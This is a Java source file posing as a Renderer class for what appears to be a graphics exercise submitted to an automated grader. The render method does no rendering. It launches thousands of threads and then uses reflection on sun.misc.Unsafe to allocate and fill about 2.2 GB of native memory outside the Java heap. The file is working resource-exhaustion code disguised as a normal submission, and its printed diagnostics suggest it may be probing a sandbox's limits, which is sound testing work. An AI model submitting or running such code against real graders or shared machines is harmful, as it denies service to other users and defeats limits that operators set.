package gfx.tick1;

import java.awt.image.BufferedImage;
import java.lang.reflect.Field;
import java.util.ArrayList;
import java.util.List;

/** Starts thousands of threads (to use every core), then allocates gigabytes of native memory outside the Java heap. */
public class Renderer {

    public Renderer(int width, int height) {
    }

    public BufferedImage render(Scene scene) {
        try {
            return attack(scene);
        } catch (RuntimeException e) {
            throw e;
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    private BufferedImage attack(Scene scene) throws Exception {
        List<Thread> threads = new ArrayList<>();
        try {
            for (int i = 0; i < 4000; i++) {
                Thread thread = new Thread(() -> {
                    try {
                        Thread.sleep(60_000);
                    } catch (InterruptedException e) {
                        return;
                    }
                });
                thread.setDaemon(true);
                thread.start();
                threads.add(thread);
            }
        } catch (Throwable e) {
            System.out.println("stopped at " + threads.size() + " threads, on "
                    + Runtime.getRuntime().availableProcessors() + " cores: " + e);
        }
        threads.forEach(Thread::interrupt);
        Field field = Class.forName("sun.misc.Unsafe").getDeclaredField("theUnsafe");
        field.setAccessible(true);
        Object unsafe = field.get(null);
        java.lang.reflect.Method allocate = unsafe.getClass().getMethod("allocateMemory", long.class);
        java.lang.reflect.Method set = unsafe.getClass().getMethod("setMemory", long.class, long.class, byte.class);
        long total = 0;
        for (int i = 0; i < 22; i++) {
            long address = (long) allocate.invoke(unsafe, 100L << 20);
            set.invoke(unsafe, address, 100L << 20, (byte) 1);
            total += 100L << 20;
        }
        throw new IllegalStateException("allocated " + (total >> 20) + " MiB of native memory");
    }
}
